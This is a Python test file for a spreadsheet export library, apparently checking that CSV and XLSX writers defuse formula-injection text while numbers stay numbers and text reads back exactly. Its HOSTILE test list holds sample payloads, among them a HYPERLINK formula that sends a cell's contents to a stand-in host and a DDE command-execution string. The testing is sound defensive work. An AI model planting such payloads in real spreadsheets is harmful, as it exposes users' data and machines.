"""Formula-safe cells: hostile text is written so no spreadsheet runs it, numbers
stay numbers, and reading the file gives back the original text exactly."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from aimee.tabular import read_sheet, write_sheet
from aimee.tabular.formulas import FORMULA_START, escaped, neutralise, restore

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1 ",
]
QUOTED = ["'=1+1", "''@x", "'\t=1"]
"""Text that itself starts with quotes before a formula character."""
HARMLESS = ["'abc", "''", "'", "abc=1", "様子を見る", "", " -2"]
DANGER = tuple(FORMULA_START)


@pytest.mark.parametrize("value", HOSTILE + QUOTED)
def test_risky_text_gets_one_quote_and_comes_back(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_untouched_both_ways(value: str) -> None:
    assert neutralise(value) == value
    assert not escaped(value)
    assert restore(value) == value


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\na1 あ"), max_size=8))
def test_reading_what_was_written_is_the_identity(value: str) -> None:
    written = neutralise(value)
    assert not written.startswith(DANGER)
    assert restore(written) == value


def _write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


ROWS = [[value, -2, Decimal("-2.5"), -0.5] for value in HOSTILE + QUOTED + HARMLESS[:2]]
COLUMNS = ["text", "int", "decimal", "float"]


def test_csv_cells_are_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    write_sheet(buffer, "csv", COLUMNS, ROWS)
    records = list(csv.reader(io.StringIO(buffer.getvalue().decode("utf-8-sig"), newline="")))
    assert records[0] == COLUMNS
    for (text, *numbers), (value, *_) in zip(records[1:], ROWS, strict=True):
        assert not text.startswith(DANGER), text
        assert text == neutralise(value)
        assert numbers == ["-2", "-2.5", "-0.5"]  # numbers are not text: never quoted
    read = [
        row.cells["text"] for row in read_sheet(_write(tmp_path, "t.csv", buffer.getvalue())).rows()
    ]
    assert read == [value for value, *_ in ROWS]


def test_xlsx_cells_are_strings_never_formulas(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    write_sheet(buffer, "xlsx", COLUMNS, ROWS)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]  # formulas as written
    for cells in sheet.iter_rows(min_row=2):
        text, *numbers = cells
        assert text.data_type == "s"
        assert not str(text.value).startswith(DANGER), text.value
        assert [cell.data_type for cell in numbers] == ["n", "n", "n"]
        assert [cell.value for cell in numbers] == [-2, -2.5, -0.5]
    read = [
        row.cells["text"]
        for row in read_sheet(_write(tmp_path, "t.xlsx", buffer.getvalue())).rows()
    ]
    # an Excel file holds a carriage return as a line feed (XML); the rest is exact
    assert read == [value.replace("\r", "\n") for value, *_ in ROWS]


def test_a_formula_with_illegal_characters_is_still_neutralised(tmp_path: Path) -> None:
    """Control characters are dropped for xlsx first; what remains must not run."""
    buffer = io.BytesIO()
    write_sheet(buffer, "xlsx", ["text"], [["\x00=1+1"]])
    cell = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]["A2"]
    assert (cell.data_type, cell.value) == ("s", "'=1+1")


def test_escaped_cells_are_read_verbatim_others_trimmed(tmp_path: Path) -> None:
    path = _write(tmp_path, "t.csv", b"a,b\n'\t=1+1 ,  plain  \n")
    row = next(read_sheet(path).rows())
    assert row.cells == {"a": "\t=1+1 ", "b": "plain"}
